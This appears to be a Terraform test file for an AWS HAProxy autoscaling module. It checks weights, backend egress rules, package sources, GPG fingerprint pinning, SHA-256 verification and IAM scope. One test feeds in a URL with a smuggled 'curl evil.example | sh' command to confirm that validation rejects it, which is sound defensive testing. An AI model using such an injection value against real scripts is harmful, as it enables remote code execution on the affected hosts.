      "web-asg" = [{ name = "web", port = 8080, weight = 50 }]
      "api-asg" = [{ name = "api", port = 9000 }]
    }
  }
  assert {
    condition     = strcontains(output.agent_config, "sync_interval_s = 300\nweights = { \"web-asg\" = 50 }\n")
    error_message = "Without group_weights, [aws] weights must be the reactor's weights (a group whose pools carry none has none)."
  }
}

run "weights_differ_from_the_reactor" {
  command = plan
  variables {
    group_weights = { "web-asg" = 10 }
    reactor_group_pools = {
      "web-asg" = [{ name = "web", port = 8080, weight = 50 }]
      "api-asg" = [{ name = "api", port = 9000 }]
    }
  }
  expect_failures = [aws_launch_template.this]
}

run "weights_missing_from_the_reactor" {
  command = plan
  variables {
    group_weights = { "api-asg" = 10 }
    reactor_group_pools = {
      "web-asg" = [{ name = "web", port = 8080 }]
      "api-asg" = [{ name = "api", port = 9000 }]
    }
  }
  expect_failures = [aws_launch_template.this]
}

run "group_weights_name_known_groups" {
  command = plan
  variables {
    group_weights = { "batch-asg" = 10 }
  }
  expect_failures = [aws_launch_template.this]
}

run "group_weights_validated" {
  command = plan
  variables {
    group_weights = { "web-asg" = 257 }
  }
  expect_failures = [var.group_weights]
}

run "zone_affinity_validated" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", zone_affinity = "always" }]
  }
  expect_failures = [var.pools]
}

run "min_zone_members_validated" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", min_zone_members = 0 }]
  }
  expect_failures = [var.pools]
}

# The proxies reach the backend subnets on the pools' ports only, and accept members there.
run "egress_to_the_backends_on_the_pool_ports" {
  command = plan
  variables {
    pools = [
      { name = "web", port = 8080, ports = [8443], bind = ":80" },
      { name = "api", port = 9000, bind = ":8443" },
    ]
  }
  assert {
    condition = toset(keys(aws_vpc_security_group_egress_rule.backends)) == toset([
      "10.0.10.0/24:8080", "10.0.10.0/24:8443", "10.0.10.0/24:9000",
      "10.0.11.0/24:8080", "10.0.11.0/24:8443", "10.0.11.0/24:9000",
    ])
    error_message = "Egress to the backends must be the backend subnets times the pools' ports, nothing else."
  }
  assert {
    condition     = alltrue([for r in aws_vpc_security_group_egress_rule.backends : r.from_port == r.to_port])
    error_message = "Each backend egress rule must open one port."
  }
  assert {
    condition     = strcontains(output.agent_config, "member_networks = [\"10.0.10.0/24\",\"10.0.11.0/24\"]")
    error_message = "member_networks must default to the backend subnets, not the VPC."
  }
}

run "backend_cidr_blocks_validated" {
  command = plan
  variables {
    backend_cidr_blocks = []
  }
  expect_failures = [var.backend_cidr_blocks]
}

# --- Which HAProxy (var.haproxy) -------------------------------------------------------

# The default: Debian 12's own package, today's install line, then the version check.
run "haproxy_default_is_debians_package" {
  command = plan

  assert {
    condition = (
      strcontains(local.user_data, "apt-get update -q\napt-get install -y -q --no-install-recommends haproxy awscli ca-certificates curl\nhaproxy_asked=\"Debian 12's haproxy package (2.6)\"\n# The package may start HAProxy with its sample configuration: stop it until ours is in place.\nsystemctl stop haproxy.service || true\n")
    )
    error_message = "By default the user data must install Debian's haproxy with the same line as before, and stop it."
  }
  assert {
    condition = (
      strcontains(local.user_data, "haproxy_said=\"$(/usr/sbin/haproxy -v 2>&1)\" || true\nprintf '%s\\n' \"$haproxy_said\"\n") &&
      strcontains(local.user_data, "if [[ \"$haproxy_said\" =~ ^HAProxy\\ version\\ ([0-9]+\\.[0-9]+)[.-] ]]; then\n  haproxy_installed=\"$${BASH_REMATCH[1]}\"\nfi\n") &&
      strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"2.6\" ]]; then\n  echo \"haproxy-asg: $haproxy_asked was asked for (haproxy), but /usr/sbin/haproxy -v says: $${haproxy_said:-nothing}; stopping\" >&2\n  exit 1\nfi\n")
    )
    error_message = "The user data must print haproxy -v and stop, naming what was asked and what it got, unless /usr/sbin/haproxy is 2.6."
  }
  assert {
    condition     = !strcontains(local.user_data, "haproxy.debian.net") && !strcontains(local.user_data, "apt-mark") && !strcontains(local.user_data, "/etc/apt/")
    error_message = "Debian's package needs no other repository, pin or hold."
  }
}

run "haproxy_debian_2_6_explicit" {
  command = plan
  variables {
    haproxy = { source = "debian", version = "2.6" }
  }
  assert {
    condition     = strcontains(local.user_data, "apt-get install -y -q --no-install-recommends haproxy awscli ca-certificates curl\n") && strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"2.6\" ]]; then")
    error_message = "source = debian with version 2.6 is the default."
  }
}

run "haproxy_from_haproxy_debian_net" {
  command = apply
  variables {
    haproxy = { source = "haproxy.debian.net", version = "3.0" }
  }
  assert {
    condition     = strcontains(local.user_data, "apt-get update -q\napt-get install -y -q --no-install-recommends awscli ca-certificates curl gpg\n") && !strcontains(local.user_data, "--no-install-recommends haproxy awscli")
    error_message = "With haproxy.debian.net, Debian's packages come first (gpg to check the key), not Debian's haproxy."
  }
  assert {
    condition = (
      strcontains(local.user_data, "curl -fsSL --retry 5 -o \"$haproxy_keys/download.gpg\" https://haproxy.debian.net/haproxy-archive-keyring.gpg\n") &&
      strcontains(local.user_data, "gpg --batch --quiet --homedir \"$haproxy_keys\" --import \"$haproxy_keys/download.gpg\"\n") &&
      strcontains(local.user_data, "awk -F: '$1 == \"pub\" { pub = 1; next } pub && $1 == \"fpr\" { found = found || $10 == \"AEF2348766F371C689A7360095A42FE8353525F9\"; pub = 0 } END { exit !found }'; then\n  echo \"haproxy-asg: https://haproxy.debian.net/haproxy-archive-keyring.gpg holds no key AEF2348766F371C689A7360095A42FE8353525F9 (haproxy.key_fingerprint); refusing the repository\" >&2\n  exit 1\nfi\n") &&
      strcontains(local.user_data, "gpg --batch --homedir \"$haproxy_keys\" --export AEF2348766F371C689A7360095A42FE8353525F9 > /etc/apt/keyrings/haproxy-archive-keyring.gpg\n")
    )
    error_message = "The repository's key must be pinned by fingerprint (a primary key): only that key goes into the keyring apt trusts for it, and without it the provisioning stops."
  }
  assert {
    condition     = strcontains(local.user_data, "echo \"deb [signed-by=/etc/apt/keyrings/haproxy-archive-keyring.gpg] https://haproxy.debian.net bookworm-backports-3.0 main\" > /etc/apt/sources.list.d/haproxy.list\n")
    error_message = "The apt source must be haproxy.debian.net's bookworm-backports-3.0 suite, signed by the pinned key only."
  }
  assert {
    condition     = strcontains(local.user_data, "Package: haproxy\nPin: origin haproxy.debian.net\nPin-Priority: 990\n\nPackage: *\nPin: origin haproxy.debian.net\nPin-Priority: 1\nHAPROXY_ASG_APT_PIN\napt-get update -q\napt-get install -y -q --no-install-recommends \"haproxy=3.0.*\"\n")
    error_message = "apt must take haproxy from haproxy.debian.net, nothing else from there (pin 1), and install the 3.0 line."
  }
  assert {
    condition     = strcontains(local.user_data, "haproxy_asked=\"HAProxy 3.0 from haproxy.debian.net (bookworm-backports-3.0)\"") && strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"3.0\" ]]; then")
    error_message = "The version check must expect 3.0 and name the repository's suite."
  }
  assert {
    condition     = toset([for s in data.aws_iam_policy_document.instance.statement : s.sid]) == toset(["AgentBinary", "Discovery", "Reports", "DenyParameterStore"])
    error_message = "A repository needs no IAM permission."
  }
  assert {
    condition     = output.agent_config == run.nlb.agent_config
    error_message = "agent.toml does not depend on the HAProxy chosen."
  }
}

run "haproxy_debian_net_2_8" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "2.8" }
  }
  assert {
    condition     = strcontains(local.user_data, " https://haproxy.debian.net bookworm-backports-2.8 main\"") && strcontains(local.user_data, "\"haproxy=2.8.*\"") && strcontains(local.user_data, "!= \"2.8\" ]]")
    error_message = "2.8 must come from the bookworm-backports-2.8 suite, and be checked."
  }
}

run "haproxy_debian_net_3_2" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "3.2" }
  }
  assert {
    condition     = strcontains(local.user_data, " https://haproxy.debian.net bookworm-backports-3.2 main\"") && strcontains(local.user_data, "\"haproxy=3.2.*\"") && strcontains(local.user_data, "!= \"3.2\" ]]")
    error_message = "3.2 must come from the bookworm-backports-3.2 suite, and be checked."
  }
}

run "haproxy_debian_net_2_6" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "2.6" }
  }
  assert {
    condition     = strcontains(local.user_data, " https://haproxy.debian.net bookworm-backports-2.6 main\"") && !strcontains(local.user_data, "--no-install-recommends haproxy awscli")
    error_message = "2.6 from haproxy.debian.net (its latest 2.6.x) must come from the bookworm-backports-2.6 suite."
  }
}

run "haproxy_debian_net_key_fingerprint" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "3.0", key_fingerprint = "0123456789ABCDEF0123456789ABCDEF01234567" }
  }
  assert {
    condition     = strcontains(local.user_data, "$10 == \"0123456789ABCDEF0123456789ABCDEF01234567\"") && strcontains(local.user_data, "--export 0123456789ABCDEF0123456789ABCDEF01234567 > ") && !strcontains(local.user_data, "AEF2348766F371C689A7360095A42FE8353525F9")
    error_message = "A key_fingerprint given must replace the default pin everywhere."
  }
}

run "haproxy_deb_from_s3" {
  command = apply
  variables {
    haproxy = {
      source  = "deb"
      version = "3.2"
      url     = "s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb"
      sha256  = "3333333333333333333333333333333333333333333333333333333333333333"
    }
  }
  assert {
    condition     = strcontains(local.user_data, "apt-get update -q\napt-get install -y -q --no-install-recommends awscli ca-certificates curl\n") && !strcontains(local.user_data, "--no-install-recommends haproxy awscli")
    error_message = "With a package of yours, Debian's haproxy must not be installed."
  }
  assert {
    condition = strcontains(local.user_data, join("\n", [
      "aws s3 cp --region \"us-west-2\" --only-show-errors \"s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb\" /tmp/haproxy-asg-haproxy.deb",
      "if ! echo \"3333333333333333333333333333333333333333333333333333333333333333  /tmp/haproxy-asg-haproxy.deb\" | sha256sum -c -; then",
      "  echo \"haproxy-asg: s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb does not match haproxy.sha256; refusing to install it\" >&2",
      "  rm -f /tmp/haproxy-asg-haproxy.deb",
      "  exit 1",
      "fi",
      "apt-get install -y -q --no-install-recommends /tmp/haproxy-asg-haproxy.deb",
      "rm -f /tmp/haproxy-asg-haproxy.deb",
      "apt-mark hold haproxy",
      "",
    ]))
    error_message = "The package must be fetched from S3, installed only if sha256sum -c accepts its SHA-256 (otherwise the provisioning stops), with its dependencies by apt, then held."
  }
  assert {
    condition     = strcontains(local.user_data, "haproxy_asked=\"HAProxy 3.2 from s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb\"") && strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"3.2\" ]]; then") && !strcontains(local.user_data, "haproxy.debian.net")
    error_message = "The version check must expect the version given and name the package."
  }
  assert {
    condition = (
      [for s in data.aws_iam_policy_document.instance.statement : s.actions if s.sid == "HaproxyPackage"][0] == toset(["s3:GetObject"]) &&
      [for s in data.aws_iam_policy_document.instance.statement : s.resources if s.sid == "HaproxyPackage"][0] == toset(["arn:aws:s3:::my-packages/haproxy/haproxy_3.2.4-1_amd64.deb"]) &&
      toset([for s in data.aws_iam_policy_document.instance.statement : s.sid]) == toset(["AgentBinary", "Discovery", "Reports", "DenyParameterStore", "HaproxyPackage"])
    )
    error_message = "The proxies may read exactly the package object, and nothing more is allowed."
  }
}

run "haproxy_deb_from_https" {
  command = apply
  variables {
    haproxy = {
      source  = "deb"
      version = "2.6"
      url     = "https://packages.example.com/debian/pool/h/haproxy_2.6.22-1_amd64.deb"
      sha256  = "4444444444444444444444444444444444444444444444444444444444444444"
    }
  }
  assert {
    condition = (
      strcontains(local.user_data, "curl -fsSL --retry 5 -o /tmp/haproxy-asg-haproxy.deb \"https://packages.example.com/debian/pool/h/haproxy_2.6.22-1_amd64.deb\"\nif ! echo \"4444444444444444444444444444444444444444444444444444444444444444  /tmp/haproxy-asg-haproxy.deb\" | sha256sum -c -; then\n") &&
      !strcontains(local.user_data, "--only-show-errors \"https://")
    )
    error_message = "An https package must be fetched with curl, then checked."
  }
  assert {
    condition     = toset([for s in data.aws_iam_policy_document.instance.statement : s.sid]) == toset(["AgentBinary", "Discovery", "Reports", "DenyParameterStore"])
    error_message = "An https package needs no IAM permission."
  }
}

run "haproxy_source_validated" {
  command = plan
  variables {
    haproxy = { source = "ubuntu" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_version_supported_only" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "3.1" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_version_older_refused" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "2.4" }
  }
  expect_failures = [var.haproxy]
}

# version = 3.0 unquoted is the string "3".
run "haproxy_version_unquoted_refused" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = 3.0 }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_debian_is_2_6" {
  command = plan
  variables {
    haproxy = { source = "debian", version = "3.0" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_debian_net_needs_a_version" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_deb_needs_a_version" {
  command = plan
  variables {
    haproxy = { source = "deb", url = "https://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_deb_needs_a_sha256" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_deb_needs_a_url" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_url_only_with_deb" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "3.0", url = "https://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_url_not_plain_http" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", url = "http://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_url_other_scheme_refused" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", url = "ftp://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
  }
  expect_failures = [var.haproxy]
}

# Quotes and spaces never reach the shell script.
run "haproxy_url_cannot_inject" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb\"; curl evil.example | sh; \"", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_s3_url_needs_a_key" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", url = "s3://my-packages/", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_sha256_validated" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb", sha256 = "ABCDEF" }
  }
  expect_failures = [var.haproxy]
}

run "haproxy_sha256_placeholder_refused" {
  command = plan
  variables {
    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb", sha256 = "0000000000000000000000000000000000000000000000000000000000000000" }
  }
  expect_failures = [var.haproxy]
}

# A short key id (the last 16 digits) is not a pin.
run "haproxy_key_fingerprint_validated" {
  command = plan
  variables {
    haproxy = { source = "haproxy.debian.net", version = "3.0", key_fingerprint = "95A42FE8353525F9" }
  }
  expect_failures = [var.haproxy]
}
